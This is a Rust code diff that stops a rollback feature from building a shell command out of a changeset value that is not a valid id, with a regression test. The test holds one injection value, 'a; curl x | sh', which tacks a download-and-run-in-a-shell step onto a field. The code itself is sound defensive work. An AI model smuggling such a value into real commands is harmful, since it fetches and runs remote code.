@@ -2,6 +2,7 @@
 
 use super::history::Status;
 use crate::base::{Span, time};
+use crate::source::changeset::is_id;
 use serde::Serialize;
 use serde_json::{Value, json};
 
@@ -150,10 +151,12 @@ impl Entry {
         }
     }
 
-    /// The command that puts it back.
+    /// The command that puts it back; none of what somebody wrote by hand where an id stands, as it will be
+    /// given to a shell.
     #[must_use]
     pub fn command(&self) -> Option<String> {
         match self.way() {
+            Way::Rollback if !is_id(&self.changeset) => None,
             Way::Rollback => Some(format!("dagmar rollback {}", self.changeset)),
             Way::Restore => Some(format!("dagmar attic restore {}", self.id)),
             Way::None(_) => None,
@@ -302,6 +305,8 @@ mod tests {
         assert_eq!(command(Entry { by_rollback: false, ..entry(Kind::Update, Some(Status::Applied)) }), None);
         assert_eq!(command(Entry { home: None, ..entry(Kind::Values, None) }), None);
         assert_eq!(command(entry(Kind::Delete, None)), None);
+        let odd = Entry { changeset: "a; curl x | sh".to_owned(), ..entry(Kind::Table, Some(Status::Applied)) };
+        assert_eq!(command(odd), None);
         assert_eq!(command(entry(Kind::Table, Some(Status::Partly))), None);
         assert_eq!(command(Entry { restored_at: Some(5), ..entry(Kind::Rows, None) }), None);
     }
